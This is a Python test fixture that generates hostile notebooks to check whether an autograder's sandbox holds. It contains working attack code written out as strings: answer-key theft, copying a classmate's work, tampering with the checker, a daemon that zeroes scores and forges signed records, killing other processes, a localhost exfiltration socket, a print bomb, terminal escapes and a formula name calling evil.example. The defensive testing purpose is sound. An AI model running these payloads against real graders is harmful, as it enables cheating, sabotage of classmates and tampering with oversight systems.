"""A hostile class, generated at run time: one notebook per attack of issue 10, beside honest students.

Never stored as .ipynb under tests/ (the README's test command runs nbval on every notebook
there).  Every notebook is a small workbook-01 notebook (named like 01_….ipynb) written in plain
numpy; the attacks try to earn points they did not compute, or to hurt a classmate, and leave
*evidence* files in a folder outside the sandbox whenever they get that far — so the same class
graded with --trust-notebooks shows what each one does when nothing stops it.

Each attack only ever writes into folders the test made (the evidence folder, the test's copy of
the checker, the class, the output folder); GUARD (the real checkout) is never written to.

    config = Config(evidence=…, guard=<the real checkout>, port=…)
    students = generate(folder, config)        # {student: what it is}
"""
from __future__ import annotations

import json
import os
import uuid
from dataclasses import dataclass
from pathlib import Path

import grade_fixtures as fx

NOTEBOOK = fx.solution_path(1).name          # 01_forward_pass_and_output_layer.ipynb: workbook wb01
SLEEP_SECONDS = "4711.25"                    # the sleepers' argument: how the test finds them


@dataclass
class Config:
    evidence: str          # where an attack that got through leaves a file
    guard: str             # the real checkout: never written to, whatever happens
    port: int              # a TCP listener of the test on 127.0.0.1 (exfiltration)
    token: str = ""        # in the command line of every process an attack starts

    def __post_init__(self):
        self.token = self.token or f"hostile-{uuid.uuid4().hex[:12]}"


# --- the honest students ---------------------------------------------------------------------------

HONEST_FUNCTIONS = '''
import numpy as np

def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))

def softmax(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)

def cross_entropy(h3, y):
    h3, y = np.asarray(h3, dtype=float), np.asarray(y, dtype=float)
    mask = y != 0
    return float(-np.sum(y[mask] * np.log(h3[mask]))) + 0.0

def grad_z3(h3, y):
    return h3 - y

def grad_W3(h2, dz3):
    return np.outer(h2, dz3)

def grad_b3(dz3):
    return dz3.copy()

shape_x = (1024,)
'''
HONEST_POINTS = 6.5      # six functions of 1 point, shape_x 0.5

PARTIAL = '''
import numpy as np

def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))

def grad_W3(h2, dz3):
    return np.outer(dz3, h2)          # transposed: 0 points

def grad_b3(dz3):
    return dz3.copy()

shape_x = (1024,)
'''
PARTIAL_POINTS = 2.5     # sigmoid 1, grad_b3 1, shape_x 0.5
PARTIAL_DIAGNOSES = {"wb01.grad_W3": "transposed"}


# --- what every attack notebook starts with ------------------------------------------------------------

PRELUDE = '''
import json, os, signal, subprocess, sys, time
EVIDENCE, GUARD, TOKEN, PORT = {evidence!r}, {guard!r}, {token!r}, {port!r}

def evidence(name, text=""):
    """Leave a file where the test can see it (impossible from inside the sandbox)."""
    try:
        with open(os.path.join(EVIDENCE, name), "w") as f:
            f.write(str(text))
    except OSError:
        pass

def proc(pid):
    """(argv, parent pid) of a process, or (None, 0)."""
    try:
        argv = [a.decode("utf-8", "replace") for a in open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0") if a]
        ppid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
        return argv, ppid
    except (OSError, ValueError, IndexError):
        return None, 0

def ancestors():
    """[(pid, argv)] from this kernel's parent up: the worker, then the grader, outside a sandbox."""
    out, pid = [], os.getppid()
    while pid > 1 and len(out) < 8:
        argv, ppid = proc(pid)
        if argv is None:
            break
        out.append((pid, argv))
        pid = ppid
    return out

def grader():
    """(pid, argv) of `python -m checker grade …`, when it can be seen."""
    for pid, argv in ancestors():
        if "checker" in argv and "grade" in argv:
            return pid, argv
    return None, None

def argument(argv, flag):
    return argv[argv.index(flag) + 1] if argv and flag in argv else None

def safe(path):
    """Never write into the real checkout, even if a sandbox failed."""
    path = os.path.realpath(path)
    return not (path == GUARD or path.startswith(GUARD + os.sep))

def environ(pid):
    try:
        pairs = open(f"/proc/{{pid}}/environ", "rb").read().split(b"\\0")
    except OSError:
        return {{}}
    return dict(p.decode("utf-8", "replace").split("=", 1) for p in pairs if b"=" in p)

def daemon(code, *args):
    """A setsid, double-forked daemon running `code` (TOKEN in its command line)."""
    launcher = (
        "import os, sys\\n"
        "if os.fork(): os._exit(0)\\n"
        "os.setsid()\\n"
        "if os.fork(): os._exit(0)\\n"
        "exec(sys.argv[1])\\n")
    subprocess.Popen([sys.executable, "-c", launcher, code, TOKEN, *args], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

ANSWER_KEY = '''
# 1. the reference and the answer key, by a disguised route
exercises = __import__("chec" + "ker.exer" + "cises", fromlist=["x"])
table = getattr(exercises, "regis" + "try")()
shape_x = table["wb01.shape_x"].answer()
ref = lambda i: getattr(table[i], "refer" + "ence")
sigmoid, softmax, cross_entropy = ref("wb01.sigmoid"), ref("wb01.softmax"), ref("wb01.cross_entropy")
grad_z3, grad_W3, grad_b3 = ref("wb01.grad_z3"), ref("wb01.grad_W3"), ref("wb01.grad_b3")
evidence("answer_key", exercises.__file__)
'''

STEAL_CLASSMATE = '''
# 2. the grader's command line -> the class folder -> a classmate's functions
found = []
pid, argv = grader()
if argv:
    root = argv[argv.index("grade") + 1]
    for folder, dirs, files in os.walk(root):
        for name in files:
            if name.endswith(".ipynb") and os.path.basename(folder) == "ivy":
                for cell in json.load(open(os.path.join(folder, name)))["cells"]:
                    if cell["cell_type"] == "code":
                        exec("".join(cell["source"]), globals())
                found.append(("classmate", os.path.join(folder, name)))
if found:
    evidence("steal_classmate", found)
'''

STEAL_SOLUTIONS = '''
# 3. the instructor's solutions/, found from where checker lives
import checker
places = [os.path.dirname(os.path.dirname(os.path.abspath(checker.__file__)))]
for module in list(sys.modules.values()):
    mapping = getattr(module, "MAPPING", None)      # an editable install's finder
    if isinstance(mapping, dict) and "checker" in mapping:
        places.append(os.path.dirname(mapping["checker"]))
for pid, argv in ancestors():
    places += environ(pid).get("PYTHONPATH", "").split(os.pathsep)
for place in places:
    folder = os.path.join(place, "solutions")
    if place and os.path.isdir(folder):
        for name in sorted(os.listdir(folder)):
            if name.startswith("01_") and name.endswith(".ipynb"):
                for cell in json.load(open(os.path.join(folder, name)))["cells"]:
                    source = "".join(cell["source"])
                    if cell["cell_type"] == "code" and "def " in source:
                        try:
                            exec(source, globals())
                        except Exception:
                            pass
                evidence("steal_solutions", folder)
                break
'''

TAMPER_CHECKER = '''
# 4. append to the grader's checker/evaluate.py: every later worker runs it
APPENDED = ("\\ntry:\\n    open(%r + '/tampered-import-' + str(__import__('os').getpid()), 'w').close()\\n"
            "except OSError:\\n    pass\\n" % EVIDENCE)
targets = set()
for pid, argv in ancestors():
    for place in environ(pid).get("PYTHONPATH", "").split(os.pathsep):
        target = os.path.join(place, "checker", "evaluate.py")
        if place and os.path.isfile(target) and safe(target):
            targets.add(target)
for target in targets:
    try:
        with open(target, "a") as f:
            f.write(APPENDED)
        evidence("tamper_checker", target)
    except OSError:
        pass
'''

DAEMON_OUT = r'''
# 5. a daemon that outlives the kernel and rewrites out/ once the grader has finished
REWRITE = """
import hashlib, hmac, json, os, sys, time
evidence, main = sys.argv[3], int(sys.argv[4])
out = sys.argv[5] if len(sys.argv) > 5 else ""
deadline = time.time() + 90
while os.path.exists(f"/proc/{main}") and time.time() < deadline:
    time.sleep(0.2)
time.sleep(0.5)
if out and os.path.isdir(out):
    records = os.path.join(out, "records")
    ghost = {"student": "ghost", "workbook": "wb01", "score": 99.0, "max_score": 23.5, "items": [],
             "complete": True, "sha256": None}
    with open(os.path.join(records, "zzzz-ghost__wb01.json"), "w") as f:       # an unsigned, misnamed record
        json.dump({"record": ghost, "signature": "0" * 64}, f)
    for name in os.listdir(records):                                           # zero the classmates
        if name.endswith(".json") and not name.startswith(("daemon__", "zzzz-")):
            path = os.path.join(records, name)
            data = json.load(open(path))
            data["record"]["score"] = 0.0
            for item in data["record"]["items"]:
                item["points"] = 0.0
            json.dump(data, open(path, "w"))
            open(os.path.join(evidence, "zeroed-" + name), "w").close()
    try:                                                                       # forge one with the key
        key = bytes.fromhex(open(os.path.join(out, ".grader-key")).read().strip())
        forged = dict(ghost, student="ghost_signed", notebook=None, items=[], written=[])
        name = "ghost_signed__wb01.json"
        body = json.dumps(forged, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        mac = hmac.new(key, (name + "\\n" + body).encode(), hashlib.sha256).hexdigest()
        json.dump({"record": forged, "signature": mac}, open(os.path.join(records, name), "w"))
        open(os.path.join(evidence, "forged_with_key"), "w").close()
    except OSError:
        pass
    import csv                                                                 # points of its own choosing
    path = os.path.join(out, "written.csv")
    rows = list(csv.reader(open(path))) if os.path.exists(path) else [["student", "workbook", "answer_id",
                                                                       "status", "points", "comment"]]
    rows = [r for r in rows if r[:1] != ["daemon"]] + [["daemon", "wb01", "wb01.q_row_convention", "answered", "1", ""],
                                                        ["ghost", "wb01", "wb01.q_row_convention", "answered", "1", ""]]
    csv.writer(open(path, "w", newline="")).writerows(rows)
    open(os.path.join(evidence, "daemon_rewrote_out"), "w").write(out)
else:
    time.sleep(30)        # in a sandbox: nothing to find; it is still alive unless it was ended
    open(os.path.join(evidence, "daemon_survived"), "w").close()
"""
pid, argv = grader()
daemon(REWRITE, EVIDENCE, str(pid or 0), argument(argv, "--out") or "")
evidence("daemon_started")
'''

KILLER = r'''
# 6. SIGKILL a classmate's kernel while it is graded (the victim is blamed), for 15 s.  The victim is
# found by what its notebook says (the copy in the kernel's working folder); only kernels of this
# grader's temporary folder.
KILL = """
import os, signal, sys, time
evidence, scratch, victims = sys.argv[3], sys.argv[4].encode(), sys.argv[5].split(",")
deadline = time.time() + 15
while time.time() < deadline:
    for name in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{name}/cmdline", "rb").read()
            if not name.isdigit() or b"ipykernel_launcher" not in argv or scratch not in argv:
                continue
            work = f"/proc/{name}/cwd"
            text = "".join(open(os.path.join(work, f)).read() for f in os.listdir(work) if f.endswith(".ipynb"))
            student = next((v for v in victims if f"# student: {v}" in text), None)
        except (OSError, ValueError):
            continue
        if student is not None:
            try:
                os.kill(int(name), signal.SIGKILL)
                open(os.path.join(evidence, f"killed-{student}-{name}"), "w").close()
            except OSError:
                pass
    time.sleep(0.05)
"""
mine = proc(os.getpid())[0]
connection = argument(mine, "-f") or ""                # $TMPDIR/checker-grade-XXXX/…/connection.json
parts = connection.split(os.sep)
where = [i for i, p in enumerate(parts) if p.startswith("checker-grade-")]
scratch = os.sep.join(parts[:where[0]]) if where and where[0] > 1 else "/no/such/folder"
daemon(KILL, EVIDENCE, scratch, "ivy,harriet")
'''

KILL_GRADER = '''
# 7. kill the grader itself: its worker and the main process
for pid, argv in ancestors():
    if any("checker" in a for a in argv) and "bwrap" not in argv[0]:
        evidence("kill_grader-" + str(pid), " ".join(argv))
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
'''

SLEEPERS = '''
# 8. thirty processes that outlive the grader
for _ in range(30):
    subprocess.Popen(["sleep", "{seconds}"], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
evidence("sleepers_started")
'''.replace("{seconds}", SLEEP_SECONDS)

PRINT_BOMB = '''
# 9. 500 MiB of output from one cell
print("x" * (500 * 2**20))
'''

NETWORK = '''
# 14. send what it found to a listener on this machine
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
    connection.sendall(TOKEN.encode())
evidence("network")
'''

READ_MACHINE = '''
# 15. what of the machine can it see?  (reported through an exception message, the one channel out)
looks = {{name: os.path.exists(path) for name, path in {paths!r}.items()}}
for module in ("checker.network", "checker.exercises", "checker.evaluate"):
    try:
        __import__(module)
        looks[module] = True
    except ImportError:
        looks[module] = False
raise RuntimeError("SEEN " + json.dumps(looks, sort_keys=True))
'''

WRITE_OUTSIDE = '''
# 16. write where it should not: next to the output folder, into the class, the grader's checker
for folder in {folders!r}:
    try:
        if safe(folder):
            with open(os.path.join(folder, "PWNED-" + TOKEN), "w") as f:
                f.write("written by a notebook")
            evidence("wrote-" + os.path.basename(folder))
    except OSError:
        pass
'''

JAMMER = r'''
# 17. jam the calls' channels while its (right) functions are graded: fill the FIFO the grader hands calls
# out on, name calls it never answered on the FIFO it answers on, and flood the shell channel with replies
import threading
KERNEL = get_ipython().kernel
IDENTS, _send = [], KERNEL.session.send

def _spy(stream, msg_or_type, content=None, parent=None, ident=None, *args, **kwargs):
    if ident is not None and not IDENTS:
        IDENTS.append(ident)                      # the grader's address on the shell channel
    return _send(stream, msg_or_type, content, parent, ident, *args, **kwargs)
KERNEL.session.send = _spy

def channel(name):
    """A FIFO of the calls' protocol: ``go`` beside the connection file, ``done`` beside the working folder."""
    argv = open(f"/proc/{os.getpid()}/cmdline", "rb").read().split(b"\0")
    inbox = os.path.dirname(argv[argv.index(b"-f") + 1].decode())
    return os.path.join(inbox if name == "go" else os.path.dirname(os.getcwd()), name)

def jam_go():
    """Fill the grader's FIFO ``go``: True if it could be opened for writing at all."""
    try:
        fd = os.open(channel("go"), os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        return False
    try:
        while True:
            os.write(fd, b"x" * 4096)
    except OSError:
        return True

def flood_shell(seconds):
    """Replies to no request, as fast as the kernel can send them."""
    parent = {"msg_id": "none", "msg_type": "execute_request", "username": "", "session": "", "date": "",
              "version": "5.3"}
    socket = getattr(KERNEL.shell_stream, "socket", KERNEL.shell_stream)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        if IDENTS:
            _send(socket, "execute_reply", {"status": "ok", "junk": "x" * 1000}, parent=parent, ident=IDENTS[0])

def name_calls(seconds):
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            fd = os.open(channel("done"), os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, b"".join(b"c%d\n" % k for k in range(200)))
            os.close(fd)
        except OSError:
            pass
        if jam_go():
            evidence("jammed_go")
        time.sleep(0.01)

def jam(seconds):
    for target in (flood_shell, name_calls):
        threading.Thread(target=target, args=(seconds,), daemon=True).start()

JAMMING = []

def jammed(fn, seconds=90):
    """``fn``, which fills ``go`` and starts the jam at the first call: while calls are served, the kernel's
    own thread sends nothing on the shell channel (two threads sending at once would crash the kernel's ZMQ)."""
    def wrapper(*args):
        if not JAMMING:
            if jam_go():   # at once, while the grader surely holds the FIFO open: a thread may come too late
                evidence("jammed_go")
            JAMMING.append(jam(seconds))
        return fn(*args)
    wrapper.__name__ = fn.__name__
    return wrapper
'''

JAMMED = "\nsigmoid, softmax, cross_entropy, grad_z3, grad_W3, grad_b3 = map(jammed, (sigmoid, softmax, " \
         "cross_entropy, grad_z3, grad_W3, grad_b3))\n"

HOARDER = HONEST_FUNCTIONS + r'''
# 18. values whose description is small and whose contents are huge, for the grader to build: a list of 10**4
# lists of a million items, object arrays, an answer variable of the same kind
def grad_W3(h2, dz3):
    return [[[0.0] * 10**6] * 100] * 100

def grad_b3(dz3):
    block = np.empty((1000, 1000), dtype=object)
    return [[block] * 100] * 100

shape_x = [[[1024] * 10**6] * 100] * 100
'''
HOARDER_POINTS = HONEST_POINTS - 2.5      # grad_W3, grad_b3 and shape_x: what it did not compute

# 19. text that a terminal runs (ESC sequences: clear the screen, set its title) or that no UTF-8 file can hold
# (a lone surrogate), in its folder's name, in the first line of a cell that stops its kernel, in an error, in a
# written answer; its functions are right
ESCAPES_FOLDER = "\x1b]0;owned\x07\x1b[2Jescapes\udcff"      # \udcff: the undecodable byte 0xff
ESCAPES_STUDENT = "\\x1b]0;owned\\x07\\x1b[2Jescapes\\udcff"   # what the grader calls it
ESCAPES_CELLS = ("# \x1b]0;owned\x07\x1b[2J\x1b[31m\nimport os\nos._exit(3)",
                 HONEST_FUNCTIONS + "\nraise RuntimeError('\\x1b[2J\\x1b]0;owned\\x07 \\udcff')\n")

WRITTEN_CELL = {"cell_type": "markdown", "id": "essay01", "source": "My essay: backprop is the chain rule.",
                "metadata": {"tags": ["written-answer"], "checker": {"answer_id": "wb01.q_row_convention"}}}


def notebook(*sources, written: bool = False) -> dict:
    cells = [fx.code_cell(source) for source in sources]
    if written:
        cells.append(dict(WRITTEN_CELL))
    return {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
            "nbformat": 4, "nbformat_minor": 5}


def attack(config: Config, body: str, **fields) -> dict:
    prelude = PRELUDE.format(evidence=config.evidence, guard=config.guard, token=config.token, port=config.port)
    return notebook(prelude, body.format(**fields) if fields else body, written=True)


# --- the class --------------------------------------------------------------------------------------

# student -> which bullet of issue 10 it is; the honest ones and the formula names get their points
ATTACKS = {
    "answer_key": "calls the reference and the answer key by a disguised import",
    "steal_classmate": "reads the grader's command line and the class; runs ivy's functions",
    "steal_solutions": "runs the instructor's solutions/, found from where checker lives",
    "tamper_checker": "appends code to the grader's checker/evaluate.py",
    "daemon": "a setsid double-forked daemon rewrites out/ after the run (plants, zeroes, forges, written.csv)",
    # (named to be graded early — students are graded in order — so that classmates are graded after it)
    "assassin": "SIGKILLs classmates' kernels while they are graded",
    "kill_grader": "SIGKILLs its worker and the grader",
    "sleepers": "leaves 30 sleep processes running",
    "print_bomb": "prints 500 MiB from a cell",
    "linker": "is a symbolic link to solutions/",
    "linkdir": "is a student folder that is a symbolic link to solutions/",
    "impostor": "hands in a4_ivy-style ivy.ipynb beside its own notebook (credited to someone else)",
    "deep_json": "nests its JSON 200,000 lists deep",
    "network": "sends data to a TCP listener on this machine",
    "read_machine": "looks at the checkout, the solutions, the class, out/, the scratch, the home folder",
    "write_outside": "writes files next to out/, into the class and into the grader's checker",
}
# student -> attack, for notebooks whose functions are right: they must get exactly HONEST_POINTS
RIGHT_BUT_HOSTILE = {
    "jammer": "fills the FIFO calls come on, names calls it never answered, floods the shell channel with replies",
}
# student -> (attack on the grader itself, the points it computed): exactly those, in a complete row (both modes)
EARNING = {
    "hoarder": ("returns values whose contents are huge for the grader to build", HOARDER_POINTS),
    ESCAPES_STUDENT: ("terminal escapes and lone surrogates in its name, a cell, an error, a written answer",
                      HONEST_POINTS),
}
FORMULA_NAMES = ['=HYPERLINK("evil.example","click")', "@SUM(1+1)", "-2+3", "\tTAB", "+1"]
HONEST = {"ivy": HONEST_POINTS, "harriet": PARTIAL_POINTS}


def generate(folder: Path, config: Config, *, paths: dict, outside: list, jammer: bool = True) -> dict:
    """Write the class into ``folder``; returns {student: description}.

    ``paths``: name -> path, what read_machine checks it can see; ``outside``: folders that
    write_outside tries to write into; ``jammer``: whether the class has the student of RIGHT_BUT_HOSTILE.
    """
    folder.mkdir(parents=True, exist_ok=True)
    Path(config.evidence).mkdir(parents=True, exist_ok=True)
    students = {}

    def put(name, nb, filename=NOTEBOOK):
        path = folder / name / filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(nb if isinstance(nb, str) else json.dumps(nb, indent=1), encoding="utf-8")
        return path

    put("ivy", notebook("# student: ivy" + HONEST_FUNCTIONS, written=True))
    put("harriet", notebook("# student: harriet" + PARTIAL, written=True))
    students.update(ivy="honest, everything right", harriet="honest, partly right")
    bodies = {"answer_key": ANSWER_KEY, "steal_classmate": STEAL_CLASSMATE, "steal_solutions": STEAL_SOLUTIONS,
              "tamper_checker": TAMPER_CHECKER, "daemon": DAEMON_OUT, "assassin": KILLER, "kill_grader": KILL_GRADER,
              "sleepers": SLEEPERS, "print_bomb": PRINT_BOMB, "network": NETWORK}
    for name, body in bodies.items():
        put(name, attack(config, body))
    if jammer:
        put("jammer", attack(config, JAMMER + HONEST_FUNCTIONS + JAMMED))
    put("hoarder", attack(config, HOARDER))
    escapes = notebook(*ESCAPES_CELLS, written=True)
    escapes["cells"][-1]["source"] = "an answer \ud800 \x1b[2J"
    put(ESCAPES_FOLDER, escapes)
    students.update({name: what for name, (what, _) in EARNING.items()})
    put("read_machine", attack(config, READ_MACHINE, paths=paths))
    put("write_outside", attack(config, WRITE_OUTSIDE, folders=outside))
    solution = Path(config.guard) / "solutions" / NOTEBOOK
    (folder / "linker").mkdir()
    os.symlink(solution, folder / "linker" / NOTEBOOK)
    os.symlink(solution.parent, folder / "linkdir")
    put("impostor", notebook("# wb01.grad_W3: my work\n" + HONEST_FUNCTIONS), filename="ivy.ipynb")
    put("impostor", notebook("shape_x = (1024,)"))
    put("deep_json", '{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}")
    for name in FORMULA_NAMES:
        put(name, notebook("shape_x = (1024,)", written=True))
    students.update({name: ATTACKS[name] for name in ATTACKS})
    if jammer:
        students.update(RIGHT_BUT_HOSTILE)
    students.update({name: "a name a spreadsheet would run as a formula" for name in FORMULA_NAMES})
    return students


def processes_with(text: str) -> list:
    """[(pid, command line)] of the processes whose command line contains ``text``."""
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            argv = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if text in argv and int(entry.name) != os.getpid():
            found.append((int(entry.name), argv[:200]))
    return found
